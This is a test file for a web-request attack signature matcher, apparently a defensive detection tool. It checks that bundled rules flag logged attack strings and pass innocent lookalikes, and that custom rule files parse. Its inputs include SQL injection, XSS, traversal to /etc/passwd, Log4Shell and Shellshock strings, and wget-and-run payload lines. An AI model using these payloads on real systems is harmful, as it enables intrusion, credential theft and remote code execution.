/** The bundled signatures on real attack requests and on innocent requests that look like them; rule files. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  BUNDLED_RULES,
  combineRules,
  normalize,
  parseRules,
  readRules,
  Signatures,
  type Target,
} from './signatures.ts';

const bundled = await readRules(BUNDLED_RULES);
const signatures = new Signatures(bundled);

type Parts = Partial<Record<Target, string>>;
const rulesOf = (parts: Parts) => signatures.match(parts)?.rules ?? [];
/** A request target as logged: the path, and the query without `?`. */
const url = (target: string): Parts => {
  const q = target.indexOf('?');
  return q < 0 ? { path: target } : { path: target.slice(0, q), query: target.slice(q + 1) };
};

describe('bundled signatures', () => {
  it('load, with unique ids, a category and a description each', () => {
    expect(bundled.length).toBeGreaterThan(30);
    expect(new Set(bundled.map((r) => r.id)).size).toBe(bundled.length);
    for (const rule of bundled) expect(rule.description, rule.id).not.toBe('');
  });

  it.each([
    ['/index.php?id=1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-', 'sqli-union-select'],
    ['/list?cat=-1+union/**/all/**/select+1,2,concat(user(),0x3a,database())', 'sqli-union-select'],
    ["/products?id=1' or '1'='1", 'sqli-tautology'],
    ['/products?id=1%22%20OR%201%3D1', 'sqli-tautology'],
    ['/item?id=10 AND 1=1', 'sqli-numeric-tautology'],
    ["/login?user=admin'--&pass=x", 'sqli-comment-terminator'],
    ["/?id=1;WAITFOR DELAY '0:0:5'--", 'sqli-time-delay'],
    ["/search?q=1' AND SLEEP(5)%23", 'sqli-time-delay'],
    ['/news?id=1 and extractvalue(1,concat(0x7e,version()))', 'sqli-functions'],
    ['/page?id=1 union select table_name from information_schema.tables', 'sqli-schema-probe'],
    ['/page?id=1;DROP TABLE users', 'sqli-stacked-query'],
    ['/search?q=<script>alert(document.cookie)</script>', 'xss-script-tag'],
    ['/search?q=%253Cscript%253Ealert(1)%253C/script%253E', 'xss-script-tag'],
    ['/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'xss-event-handler'],
    ['/?q=<svg/onload=alert(1)>', 'xss-event-handler'],
    ['/redirect?next=javascript:alert(1)', 'xss-javascript-uri'],
    ['/p?x="><iframe src=//evil.example>', 'xss-dangerous-tag'],
    ['/p?x=";alert(String.fromCharCode(88,83,83))//', 'xss-dom-sink'],
    ['/../../../../etc/passwd', 'traversal-dot-dot'],
    ['/static/..%2f..%2f..%2fetc%2fpasswd', 'traversal-sensitive-file'],
    ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 'traversal-dot-dot'],
    ['/download?file=..%5c..%5cwindows%5cwin.ini', 'traversal-dot-dot'],
    ['/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'traversal-overlong-utf8'],
    ['/index.php?page=/proc/self/environ', 'traversal-sensitive-file'],
    ['/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws', 'rce-download-and-run'],
    ['/?page=php://filter/convert.base64-encode/resource=index.php', 'rce-php-wrapper'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself
    ['/?x=${jndi:ldap://198.51.100.7:1389/a}', 'rce-log4shell'],
    ['/wp-login.php', 'probe-wp-login'],
    ['/xmlrpc.php', 'probe-xmlrpc'],
    ['/wp-config.php.bak', 'probe-wp-config'],
    ['/.env', 'probe-env-file'],
    ['/api/.env.production', 'probe-env-file'],
    ['/.git/config', 'probe-vcs'],
    ['/.svn/entries', 'probe-vcs'],
    ['/.aws/credentials', 'probe-cloud-credentials'],
    ['/.DS_Store', 'probe-ds-store'],
    ['/phpmyadmin/index.php', 'probe-db-admin'],
    ['/pma/', 'probe-db-admin'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'probe-phpunit-rce'],
    ['/actuator/heapdump', 'probe-spring-actuator'],
    ['/server-status', 'probe-server-status'],
    ['/wso.php', 'probe-web-shell'],
    ['/boaform/admin/formLogin', 'probe-router-exploit'],
    ['/HNAP1/', 'probe-router-exploit'],
    ['/backup.sql.gz', 'probe-backup-archive'],
  ])('%s matches %s', (target, rule) => {
    expect(rulesOf(url(target))).toContain(rule);
  });

  it.each([
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'agent-sqlmap'],
    ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'agent-nikto'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'agent-nmap'],
    ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'agent-masscan'],
    ['Mozilla/5.0 zgrab/0.x', 'agent-masscan'],
    ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'agent-nuclei'],
    ['gobuster/3.6', 'agent-content-discovery'],
    ['Fuzz Faster U Fool v2.1.0-dev', 'agent-content-discovery'],
    ['WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'agent-wpscan'],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Acunetix-Product', 'agent-vulnerability-scanner'],
    ['ZmEu', 'agent-zmeu'],
    ['() { :; }; /bin/bash -c "wget http://192.0.2.9/x -O /tmp/x"', 'rce-shellshock'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself
    ['${${lower:j}ndi:ldap://198.51.100.7/a}', 'rce-log4shell'],
  ])('user agent %s matches %s', (agent, rule) => {
    expect(rulesOf({ user_agent: agent })).toContain(rule);
  });

  it.each([
    '/',
    '/blog/union-station-selection',
    '/search?q=union+station+select+seats',
    "/search?q=O'Reilly+and+Associates",
    "/search?q=rock+'n'+roll",
    '/search?q=sleep+apnea+(5+tips)',
    '/products/select-union-jacks',
    '/docs/environment-variables',
    '/blog/.envrc-tips',
    '/.well-known/security.txt',
    '/.gitignore',
    '/blog/how-to-git-config',
    '/help/wp-login-help',
    '/docs/wp-login.php.html',
    '/images/..hidden/x.png',
    '/files/report..final.pdf',
    '/search?q=<3+you',
    '/math?expr=a<b+and+c>d',
    '/api/items?filter=price<100&sort=asc',
    '/cgi-bin-docs/',
    '/blog/javascript-tips?q=javascript+tutorial',
    '/wiki/Database_administrator',
    '/pmath/',
    '/search?q=100%',
    '/search?q=50%25+off',
    '/upload.php',
    '/static/app.min.js?v=3.2.1',
    "/blog/it's-here",
    '/search?q=select+a+product+from+the+list',
    '/api/v1/users?id=42&sort=-created',
  ])('innocent %s matches nothing', (target) => {
    expect(rulesOf(url(target))).toEqual([]);
  });

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    'curl/8.5.0',
    'python-requests/2.31.0',
    'python-httpx/0.27.0',
    'Go-http-client/1.1',
    'Nikon D850 Uploader/1.0',
  ])('innocent user agent %s matches nothing', (agent) => {
    expect(rulesOf({ user_agent: agent })).toEqual([]);
  });

  it('names every rule a request matches, once, with their categories', () => {
    const match = signatures.match({
      ...url('/shell?cd+/tmp;wget+http://192.0.2.9/x;sh+x'),
      user_agent: 'sqlmap/1.7',
      referrer: "https://example.com/?q=<script>alert('x')</script>",
    });
    expect(match?.rules.sort()).toEqual(
      ['agent-sqlmap', 'probe-router-exploit', 'rce-download-and-run', 'xss-dom-sink', 'xss-script-tag'].sort(),
    );
    expect(match?.categories.sort()).toEqual(['bad_agent', 'rce', 'scanner', 'xss']);
  });

  it('reads only the first 8 KiB of a part, so a huge one costs a bounded time', () => {
    expect(rulesOf({ path: `/${'a'.repeat(10_000)}/.env` })).toEqual([]);
    expect(rulesOf({ query: `x=${'<'.repeat(200_000)}` })).toEqual([]);
  });
});

describe('any input', () => {
  it('is matched without throwing, naming only rules that exist, each once', () => {
    const ids = new Set(bundled.map((r) => r.id));
    const piece = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.constantFrom('%', '%2', '%25', '%c0%ae', '../', "'", '<', 'union select', '${jndi:', '/.env', '\u0000'),
    );
    const part = fc.array(piece, { maxLength: 30 }).map((p) => p.join(''));
    fc.assert(
      fc.property(fc.record({ path: part, query: part, user_agent: part, referrer: part }), (parts) => {
        const match = signatures.match(parts);
        // The second time the verdicts kept answer: the same.
        expect(signatures.match(parts)).toEqual(match);
        if (match === undefined) return;
        expect(match.rules.every((id) => ids.has(id))).toBe(true);
        expect(new Set(match.rules).size).toBe(match.rules.length);
        expect(match.categories.length).toBeGreaterThan(0);
      }),
      { numRuns: 500 },
    );
  });
});

describe('decoding', () => {
  it('decodes twice, keeps malformed escapes, reads + as a space in queries only', () => {
    expect(normalize('path', '/a%252e%252e%2fb')).toBe('/a../b');
    expect(normalize('query', 'q=a+b%zz%4')).toBe('q=a b%zz%4');
    expect(normalize('path', '/a+b')).toBe('/a+b');
    expect(normalize('user_agent', 'x%41')).toBe('x%41');
  });
});

describe('rule files', () => {
  const mine = `rules:
  - id: my-admin
    category: internal
    in: [path]
    pattern: '^/internal-admin/'
    description: our admin console, never public
  - id: probe-wp-login
    category: scanner
    in: [path]
    pattern: '^/wp-login\\.php$'
    case_sensitive: true
    description: stricter than the bundled one
`;

  it('extend the bundled rules, replace one by id, and disable by id', () => {
    const rules = combineRules([bundled, parseRules(mine, 'mine.yaml')], ['agent-nmap']);
    const s = new Signatures(rules);
    expect(s.match({ path: '/internal-admin/users' })?.rules).toEqual(['my-admin']);
    expect(s.match({ path: '/WP-LOGIN.PHP' })).toBeUndefined();
    expect(s.match({ path: '/wp-login.php' })?.rules).toEqual(['probe-wp-login']);
    expect(s.match({ user_agent: 'Nmap Scripting Engine' })).toBeUndefined();
    expect(s.size).toBe(bundled.length);
  });

  it('refuse a disabled id no rule has', () => {
    expect(() => combineRules([bundled], ['agent-nmpa'])).toThrow(/`agent-nmpa`, which no rule has/);
  });

  it.each([
    [
      'rules: [{ id: a, category: x, in: [path], pattern: "(" }]',
      /mine\.yaml:1:9: rule 1: `pattern` is not a valid regular expression/,
    ],
    [
      'rules:\n  - { id: a, category: x, in: [body], pattern: x }',
      /mine\.yaml:2:5: rule 1: `in` must list some of path, query/,
    ],
    [
      'rules:\n  - { id: a, category: x, in: [path], pattern: x }\n  - { id: a, category: x, in: [path], pattern: y }',
      /:3:5: rule 2: `a` is given twice/,
    ],
    ['rules:\n  - { id: A!, category: x, in: [path], pattern: x }', /rule 1: `id` must be/],
    ['rules:\n  - { id: a, category: x, in: [path], pattern: x, severity: high }', /unknown key `severity`/],
    ['rule: []', /a rule file is a map with a `rules:` list/],
    ['rules: [', /mine\.yaml:1:\d+: /],
  ])('refuse a malformed file whole, saying where: %s', (text, message) => {
    expect(() => parseRules(text, 'mine.yaml')).toThrow(message);
  });
});
